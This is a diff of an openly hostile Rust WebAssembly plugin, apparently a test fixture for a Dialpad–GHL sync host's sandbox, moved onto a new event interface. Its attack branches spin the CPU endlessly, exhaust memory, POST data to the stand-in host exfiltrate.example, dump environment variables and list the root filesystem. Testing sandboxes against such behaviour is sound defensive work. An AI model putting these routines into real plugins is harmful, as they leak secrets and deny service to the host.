@@ -11,8 +11,8 @@
 
 wit_bindgen::generate!({ world: "plugin-core", path: "../../wit", generate_all });
 
-use dialpad_ghl::sync::types::{EventKind, EventPlan, Outcome, Report, Routing, SyncError};
 use dialpad_ghl::sync::types::OperationInfo;
+use dialpad_ghl::sync::types::{EventKind, EventPlan, Handled, InboundEvent, Outcome, Report, Routing, SyncError};
 use exports::dialpad_ghl::sync::{actions, backfill, meta, triggers, views};
 
 struct Hostile;
@@ -21,53 +21,52 @@ fn report(summary: String) -> Report {
     Report { kind: EventKind::Call, event_key: "hostile".into(), outcome: Outcome::Synced, summary, contact_id: None, note_id: None, operations: vec![] }
 }
 
-impl triggers::Guest for Hostile {
-    fn handle(body: Vec<u8>) -> Result<Report, SyncError> {
-        match String::from_utf8_lossy(&body).trim() {
-            "spin" => {
-                let mut n: u64 = 0;
-                loop {
-                    n = std::hint::black_box(n.wrapping_add(1));
-                }
+/// The body of any event: the attack's name.
+fn body(event: &InboundEvent) -> &[u8] {
+    match event {
+        InboundEvent::DialpadWebhook(body) | InboundEvent::PlatformEvent(body) => body,
+    }
+}
+
+fn attack(body: &[u8]) -> Result<Report, SyncError> {
+    match String::from_utf8_lossy(body).trim() {
+        "spin" => {
+            let mut n: u64 = 0;
+            loop {
+                n = std::hint::black_box(n.wrapping_add(1));
             }
-            "grow" => {
-                let mut hoard: Vec<Vec<u8>> = Vec::new();
-                loop {
-                    hoard.push(vec![1u8; 1 << 20]);
-                    std::hint::black_box(&hoard);
-                }
-            }
-            "exfiltrate" => match waki::Client::new().post("http://exfiltrate.example:8080/loot").body(b"stolen".to_vec()).send() {
-                Ok(r) => Ok(report(format!("exfiltrated: {}", r.status_code()))),
-                Err(e) => Err(SyncError::Transport(e.to_string())),
-            },
-            "env" => Ok(report(format!("env: {:?}", std::env::vars().collect::<Vec<_>>()))),
-            "read-file" => Ok(report(match std::fs::read_dir("/") {
-                Ok(entries) => format!("listed / with {} entries", entries.count()),
-                Err(e) => format!("no filesystem: {e}"),
-            })),
-            "panic" => panic!("hostile plugin panics"),
-            other => Ok(report(format!("harmless: {other}"))),
         }
+        "grow" => {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                hoard.push(vec![1u8; 1 << 20]);
+                std::hint::black_box(&hoard);
+            }
+        }
+        "exfiltrate" => match waki::Client::new().post("http://exfiltrate.example:8080/loot").body(b"stolen".to_vec()).send() {
+            Ok(r) => Ok(report(format!("exfiltrated: {}", r.status_code()))),
+            Err(e) => Err(SyncError::Transport(e.to_string())),
+        },
+        "env" => Ok(report(format!("env: {:?}", std::env::vars().collect::<Vec<_>>()))),
+        "read-file" => Ok(report(match std::fs::read_dir("/") {
+            Ok(entries) => format!("listed / with {} entries", entries.count()),
+            Err(e) => format!("no filesystem: {e}"),
+        })),
+        "panic" => panic!("hostile plugin panics"),
+        other => Ok(report(format!("harmless: {other}"))),
+    }
+}
+
+impl triggers::Guest for Hostile {
+    fn handle(event: InboundEvent) -> Handled {
+        Handled { plan: None, result: attack(body(&event)) }
     }
 
-    fn route(_body: Vec<u8>) -> Result<Routing, SyncError> {
+    fn route(_event: InboundEvent) -> Result<Routing, SyncError> {
         Ok(Routing { kind: EventKind::Call, lane: "hostile".into() })
     }
 
-    fn route_platform_event(_event: String) -> Result<Routing, SyncError> {
-        Ok(Routing { kind: EventKind::Task, lane: "hostile".into() })
-    }
-
-    fn plan(_body: Vec<u8>) -> Result<EventPlan, SyncError> {
-        Err(SyncError::MalformedEvent("the hostile plugin does not plan".into()))
-    }
-
-    fn handle_platform_event(event: String) -> Result<Report, SyncError> {
-        Self::handle(event.into_bytes())
-    }
-
-    fn plan_platform_event(_event: String) -> Result<EventPlan, SyncError> {
+    fn plan(_event: InboundEvent) -> Result<EventPlan, SyncError> {
         Err(SyncError::MalformedEvent("the hostile plugin does not plan".into()))
     }
 }
@@ -93,7 +92,7 @@ impl meta::Guest for Hostile {
         "0.0.0-hostile".into()
     }
     fn api_version() -> String {
-        "0.5.0".into()
+        "0.6.0".into()
     }
     fn config_schema() -> String {
         "{}".into()
